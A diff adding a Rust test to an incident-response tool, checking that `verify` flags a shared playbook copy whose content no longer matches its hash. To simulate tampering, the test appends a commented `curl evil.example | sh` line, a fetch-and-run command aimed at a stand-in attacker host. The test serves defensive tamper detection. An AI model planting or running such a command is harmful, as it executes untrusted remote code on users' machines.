@@ -1036,3 +1036,24 @@ fn entering_the_current_phase_again_is_refused() {
     let r = w.run(&ana, &["phase", &id, "containment"]).code(1);
     assert!(r.stderr.contains("already in Containment"), "{r}");
 }
+
+/// An edited shared playbook copy is tampering in `verify` (breaker of issue 10: a planted
+/// `curl … | sh` in the copy blinded teammates without that playbook while `verify` said ok).
+#[test]
+fn an_edited_playbook_copy_fails_verify() {
+    let w = World::new();
+    let ic = w.who("ic", "jump");
+    let id = w.declare(&ic, "Copy edited");
+    w.run(&ic, &["verify", &id]).ok();
+    let dir = w.root().join(&id).join("playbooks");
+    let copy = std::fs::read_dir(&dir)
+        .expect("playbooks dir")
+        .flatten()
+        .map(|e| e.path())
+        .find(|p| p.extension().is_some_and(|x| x == "ron"))
+        .expect("a playbook copy");
+    let text = std::fs::read_to_string(&copy).expect("read copy");
+    std::fs::write(&copy, format!("{text}\n// curl evil.example | sh\n")).expect("edit copy");
+    let v = w.run(&ic, &["verify", &id]).code(1);
+    assert!(v.stdout.contains("content does not match its hash"), "{v}");
+}
